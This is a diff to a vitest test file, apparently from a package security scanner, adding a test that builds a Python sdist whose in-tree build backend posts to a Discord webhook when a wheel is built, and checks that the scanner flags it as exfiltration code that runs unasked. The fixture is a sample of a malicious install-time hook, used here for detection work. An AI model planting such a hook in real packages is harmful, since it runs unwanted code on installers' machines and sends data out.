@@ -1,8 +1,11 @@
-import { existsSync, readdirSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
+import { gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
+import { ALL_RULES } from '../../core/registry.js';
 import { PROBE_BYTES, type Probe } from '../../core/scanner.js';
-import { buildZip } from '../../targets/test-archives.js';
+import { buildTar, buildZip } from '../../targets/test-archives.js';
 import { packageScanner } from './index.js';
 import { scanPackageForTest } from './test-support.js';
 
@@ -97,4 +100,38 @@ describe("Debian's pip and setuptools wheels (python3-venv brings them)", () => 
     },
     60_000,
   );
+});
+
+describe('an in-tree build backend', () => {
+  it('counts threats in its module as code that runs unasked, once pyproject.toml names it', async () => {
+    const file = (name: string, text: string): { name: string; data: Uint8Array } => ({
+      name: `hookpkg-1.0/${name}`,
+      data: encoder.encode(text),
+    });
+    const tar = buildTar([
+      // The backend streams by before pyproject.toml, as in setuptools' sorted sdists.
+      file(
+        '_build/backend.py',
+        [
+          'import requests',
+          'from setuptools import build_meta as _orig',
+          'HOOK = "https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"',
+          'def build_wheel(directory, settings=None, metadata=None):',
+          '    requests.post(HOOK, json={"content": "built"})',
+          '    return _orig.build_wheel(directory, settings, metadata)',
+        ].join('\n'),
+      ),
+      file('hookpkg/__init__.py', ''),
+      file('PKG-INFO', 'Metadata-Version: 2.1\nName: hookpkg\nVersion: 1.0\nSummary: Hooks into builds\n'),
+      file('pyproject.toml', '[build-system]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'),
+    ]);
+    const path = join(mkdtempSync(join(tmpdir(), 'mlsec-backend-')), 'hookpkg-1.0.tar.gz');
+    writeFileSync(path, gzipSync(tar));
+    // Without PKG-INST-003 (pyproject.toml itself runs unasked), only the backend module can make it so.
+    const enabledRules = ALL_RULES.map((rule) => rule.id).filter((id) => id !== 'PKG-INST-003');
+    const { findings } = await scanPackageForTest(path, { enabledRules });
+    const risk = findings.find((finding) => finding.ruleId === 'PKG-RISK-001');
+    expect(risk?.message).toContain('threats PKG-EXF-002 (_build/backend.py:3);');
+    expect(risk?.message).toContain('runs without being called');
+  });
 });
